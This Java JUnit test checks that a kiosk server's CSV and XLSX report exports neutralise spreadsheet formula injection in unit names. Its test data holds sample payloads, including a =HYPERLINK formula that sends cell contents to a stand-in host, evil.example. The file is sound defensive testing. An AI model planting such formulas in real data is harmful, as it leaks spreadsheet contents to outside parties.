package vn.kiosk06.server.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import vn.kiosk06.server.DashboardClient;
import vn.kiosk06.server.RunningServer;
import vn.kiosk06.server.security.Role;

/**
 * Issue 19's audit finding: unit names (and codes) that a spreadsheet would run as a formula ({@code =HYPERLINK(…)},
 * {@code +…}, {@code -…}, {@code @…}) reached report.csv as they were. Downloaded over real HTTP and opened as a
 * spreadsheet program reads them.
 */
class ReportCsvInjectionTest {

    static final String TREE = """
            code,name,level,parent,go_live
            AG,Tỉnh An Giang,PROVINCE,,
            RG,Phường Rạch Giá,WARD,AG,
            """;
    static final List<String> NAMES = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm\")", "+1+2", "-3+4",
            "@SUM(1+1)", "Trạm =1 an toàn");
    static final String PERIOD = "month:1@2026-06";

    @TempDir
    Path dir;
    RunningServer server;

    @AfterEach
    void stop() throws Exception {
        if (server != null) {
            server.close();
        }
    }

    @Test
    void reportCsv_cellsASpreadsheetWouldRun_startWithAQuote_xlsxHoldsThemAsText() throws Exception {
        server = new RunningServer(dir.resolve("data"), RunningServer.withOrgUnits(dir, TREE));
        DashboardClient admin = server.login("an.admin", Role.ADMIN, "AG");
        for (int i = 0; i < NAMES.size(); i++) {
            String json = "{\"code\":\"" + (i == 2 ? "-X2" : "F" + i) + "\",\"name\":\""
                    + NAMES.get(i).replace("\"", "\\\"") + "\",\"level\":\"FACILITY\",\"parent\":\"RG\",\"goLive\":\"\"}";
            assertThat(admin.post("/api/v1/admin/units", json).statusCode()).isEqualTo(200);
        }

        HttpResponse<String> csv = admin.get("/api/v1/report.csv?unit=RG&period=" + PERIOD);
        assertThat(csv.statusCode()).isEqualTo(200);
        List<CSVRecord> rows = CSVFormat.RFC4180.parse(new StringReader(csv.body().replace("\uFEFF", ""))).getRecords();
        List<String> textCells = new ArrayList<>();
        for (CSVRecord row : rows.subList(1, rows.size())) {
            textCells.add(row.get(0));
            textCells.add(row.get(1));
        }
        assertThat(textCells).contains("'" + NAMES.get(0), "'+1+2", "'-X2", "'-3+4", "'@SUM(1+1)", "Trạm =1 an toàn", "RG");
        assertThat(textCells).noneMatch(c -> !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0);

        HttpResponse<byte[]> xlsx = admin.getBytes("/api/v1/report.xlsx?unit=RG&period=" + PERIOD);
        assertThat(xlsx.statusCode()).isEqualTo(200);
        List<String> strings = new ArrayList<>();
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx.body()))) {
            for (Sheet sheet : book) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).as(sheet.getSheetName() + "!" + cell.getAddress())
                                .isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING) {
                            strings.add(cell.getStringCellValue());
                        }
                    }
                }
            }
        }
        // In a workbook a name is a text cell, never a formula, so it is shown as it was typed.
        assertThat(String.join("\n", strings)).contains(NAMES.get(0), "+1+2", "@SUM(1+1)");
    }
}
